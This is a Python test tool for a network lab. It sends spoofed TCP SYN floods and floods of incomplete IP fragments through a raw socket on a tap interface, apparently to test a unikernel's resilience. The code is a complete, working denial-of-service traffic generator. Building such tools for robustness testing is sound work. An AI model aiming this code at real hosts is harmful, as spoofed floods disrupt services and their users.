#!/usr/bin/env python3
# Crafted IPv4 frames written straight onto a tap's host side (an AF_PACKET
# raw socket; Python's standard library only), for the hostile-traffic lab
# (test/hostile). Run inside the lab's network namespace as root:
#
#   raw-flood.py syn  --iface TAP --dst ADDR --dport PORT --rate N --seconds S [--sources CIDR] [--seed N]
#       spoofed SYNs at N a second for S seconds: random source addresses from
#       CIDR, random source ports and initial sequence numbers, an MSS option
#   raw-flood.py frag --iface TAP --dst ADDR --count N [--which first|middle] [--rate N] [--sources CIDR] [--seed N]
#       N datagrams of which only one fragment is ever sent (the first, or a
#       middle one), each with its own source address and identification
#
# The destination MAC is the unikernel's, from the namespace's neighbour
# table (/proc/net/arp) or, when it is not there, asked with ARP.
# Prints one JSON line: what was sent and at what rate; an error is one JSON
# line with "error" and exit status 1 (bad arguments: argparse's usage, 2).
import argparse
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
IPPROTO_TCP = 6
IPPROTO_UDP = 17
# RFC 791: "more fragments", and the 13-bit offset in units of 8 bytes.
IP_MF = 0x2000


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of `data`."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4_header(src: int, dst: int, proto: int, payload_len: int, ident: int, frag: int) -> bytes:
    """A 20-byte IPv4 header with its checksum; `frag` holds the flags and offset field."""
    h = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + payload_len, ident, frag, 64, proto, 0, src, dst)
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:]


def syn_segment(src: int, dst: int, sport: int, dport: int, isn: int) -> bytes:
    """A TCP SYN (RFC 9293 §3.1) with an MSS option of 1460, its checksum over the pseudo-header."""
    options = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(options)) // 4
    seg = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = struct.pack("!IIBBH", src, dst, 0, IPPROTO_TCP, len(seg))
    return seg[:16] + struct.pack("!H", checksum(pseudo + seg)) + seg[18:]


def mac_bytes(text: str) -> bytes:
    return bytes(int(b, 16) for b in text.split(":"))


def mac_text(raw: bytes) -> str:
    return ":".join("%02x" % b for b in raw)


def neighbour_mac(dst: str, iface: str) -> bytes | None:
    """The MAC of `dst` in this namespace's ARP table, if complete."""
    try:
        with open("/proc/net/arp") as f:
            for line in f.readlines()[1:]:
                ip, _hw, flags, mac, _mask, dev = line.split()
                if ip == dst and dev == iface and int(flags, 16) & 0x2 and mac != "00:00:00:00:00:00":
                    return mac_bytes(mac)
    except OSError:
        pass
    return None


def arp_for(sock: socket.socket, own_mac: bytes, own_ip: int, dst: int, wait_s: float) -> bytes | None:
    """Asks `dst`'s MAC with ARP requests (RFC 826), one every 200 ms, for up to `wait_s`."""
    request = (b"\xff" * 6 + own_mac + struct.pack("!H", ETH_P_ARP)
               + struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, 1) + own_mac + struct.pack("!I", own_ip)
               + b"\0" * 6 + struct.pack("!I", dst))
    sock.settimeout(0.05)
    deadline = time.monotonic() + wait_s
    next_send = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() >= next_send:
            sock.send(request)
            next_send = time.monotonic() + 0.2
        try:
            frame = sock.recv(2048)
        except socket.timeout:
            continue
        if len(frame) >= 42 and frame[12:14] == b"\x08\x06" and struct.unpack("!H", frame[20:22])[0] == 2 \
                and struct.unpack("!I", frame[28:32])[0] == dst:
            return frame[22:28]
    return None


def interface_ipv4(iface: str) -> int:
    """The first IPv4 address of `iface` in this namespace (SIOCGIFADDR)."""
    import fcntl
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        raw = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", iface.encode()[:15]))
        return struct.unpack("!I", raw[20:24])[0]
    finally:
        s.close()


class Link:
    """An AF_PACKET socket on the tap's host side, with both MAC addresses of the frames it sends."""

    def __init__(self, iface: str, dst: str):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
        self.sock.bind((iface, ETH_P_ARP))
        self.own_mac = self.sock.getsockname()[4][:6]
        mac = neighbour_mac(dst, iface)
        if mac is None:
            mac = arp_for(self.sock, self.own_mac, interface_ipv4(iface), int(ipaddress.IPv4Address(dst)), 3.0)
        if mac is None:
            raise RuntimeError("%s did not answer ARP on %s within 3 s (is the unikernel up on it?)" % (dst, iface))
        self.dst_mac = mac
        self.head = mac + self.own_mac + struct.pack("!H", ETH_P_IP)
        # Frames the kernel cannot queue (the tap's queue is full) are counted, not fatal.
        self.sock.setblocking(False)
        self.refused = 0

    def send(self, packet: bytes) -> bool:
        try:
            self.sock.send(self.head + packet)
            return True
        except BlockingIOError:
            self.refused += 1
            return False


class Sources:
    """Random addresses from a CIDR block, excluding its network and broadcast addresses when it has them."""

    def __init__(self, cidr: str, rng: random.Random):
        net = ipaddress.IPv4Network(cidr, strict=False)
        self.base = int(net.network_address)
        self.size = net.num_addresses
        self.rng = rng
        self.cidr = str(net)

    def pick(self) -> int:
        if self.size <= 2:
            return self.base + self.rng.randrange(self.size)
        return self.base + 1 + self.rng.randrange(self.size - 2)


def paced(total: int, rate: float):
    """Yields 0..total-1, each no sooner than its slot at `rate` a second (rate 0: as fast as possible)."""
    start = time.monotonic()
    for i in range(total):
        if rate > 0:
            ahead = start + i / rate - time.monotonic()
            if ahead > 0.001:
                time.sleep(ahead)
        yield i


class Stopped(Exception):
    """A SIGTERM: the harness wants the figures so far."""


class Progress:
    """Frames sent so far and since when: the summary, whole or cut short."""

    def __init__(self, link: Link, planned: int, extra: dict):
        self.link = link
        self.planned = planned
        self.extra = extra
        self.sent = 0
        self.t0 = time.monotonic()

    def summary(self) -> dict:
        elapsed = time.monotonic() - self.t0
        return dict(self.extra, sent=self.sent, dropped=self.link.refused, planned=self.planned, seconds=elapsed,
                    rate=self.sent / elapsed if elapsed > 0 else 0)


def syn_flood(a, link: Link, rng: random.Random, progress: Progress) -> None:
    sources = Sources(a.sources, rng)
    dst = int(ipaddress.IPv4Address(a.dst))
    for _ in paced(progress.planned, a.rate):
        src = sources.pick()
        seg = syn_segment(src, dst, rng.randrange(1024, 65536), a.dport, rng.getrandbits(32))
        # DF set, as a modern TCP sends its SYN (RFC 1191 path MTU discovery).
        if link.send(ipv4_header(src, dst, IPPROTO_TCP, len(seg), rng.getrandbits(16), 0x4000) + seg):
            progress.sent += 1


def frag_flood(a, link: Link, rng: random.Random, progress: Progress) -> None:
    sources = Sources(a.sources, rng)
    dst = int(ipaddress.IPv4Address(a.dst))
    # A UDP datagram of 3 x 1,000 bytes; only one of its fragments is sent.
    chunk = 1000
    for _ in paced(progress.planned, a.rate):
        src = sources.pick()
        ident = rng.getrandbits(16)
        if a.which == "first":
            udp = struct.pack("!HHHH", rng.randrange(1024, 65536), 9, 8 + 3 * chunk, 0)
            payload = udp + bytes(chunk - 8)
            frag = IP_MF
        else:
            payload = bytes(chunk)
            frag = IP_MF | (chunk // 8)
        if link.send(ipv4_header(src, dst, IPPROTO_UDP, len(payload), ident, frag) + payload):
            progress.sent += 1


def positive(kind):
    def parse(text: str):
        v = kind(text)
        if v <= 0:
            raise argparse.ArgumentTypeError("must be more than 0, not %s" % text)
        return v
    return parse


def main() -> int:
    p = argparse.ArgumentParser(description="spoofed SYN and incomplete-fragment floods onto a tap")
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("syn", "frag"):
        s = sub.add_parser(name)
        s.add_argument("--iface", required=True, help="the tap's host-side name")
        s.add_argument("--dst", required=True, type=ipaddress.IPv4Address, help="the unikernel's address")
        s.add_argument("--sources", default="198.18.0.0/15", help="spoofed source addresses (default: RFC 2544's benchmarking block)")
        s.add_argument("--seed", type=int, default=None, help="replays a run's addresses, ports and sequence numbers")
        if name == "syn":
            s.add_argument("--dport", required=True, type=int)
            s.add_argument("--rate", required=True, type=positive(float), help="SYNs a second")
            s.add_argument("--seconds", required=True, type=positive(float))
        else:
            s.add_argument("--count", required=True, type=positive(int), help="incomplete datagrams")
            s.add_argument("--which", choices=("first", "middle"), default="first", help="the one fragment each datagram gets")
            s.add_argument("--rate", type=float, default=0, help="datagrams a second (default: as fast as possible)")
    a = p.parse_args()
    try:
        ipaddress.IPv4Network(a.sources, strict=False)
    except ValueError as e:
        p.error("--sources: %s" % e)
    a.dst = str(a.dst)
    seed = a.seed if a.seed is not None else int.from_bytes(os.urandom(4), "big")
    rng = random.Random(seed)

    def stop(_signum, _frame):
        raise Stopped()
    signal.signal(signal.SIGTERM, stop)
    progress = None
    try:
        link = Link(a.iface, a.dst)
        extra = {"cmd": a.cmd, "seed": seed, "dstMac": mac_text(link.dst_mac), "sources": str(ipaddress.IPv4Network(a.sources, strict=False))}
        if a.cmd == "syn":
            progress = Progress(link, int(a.rate * a.seconds), dict(extra, dport=a.dport))
            syn_flood(a, link, rng, progress)
        else:
            progress = Progress(link, a.count, dict(extra, which=a.which))
            frag_flood(a, link, rng, progress)
    except (OSError, RuntimeError) as e:
        print(json.dumps(dict(progress.summary() if progress else {"cmd": a.cmd}, error=str(e))))
        return 1
    except Stopped:
        print(json.dumps(dict(progress.summary() if progress else {"cmd": a.cmd}, error="stopped by SIGTERM")))
        return 1
    print(json.dumps(progress.summary()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
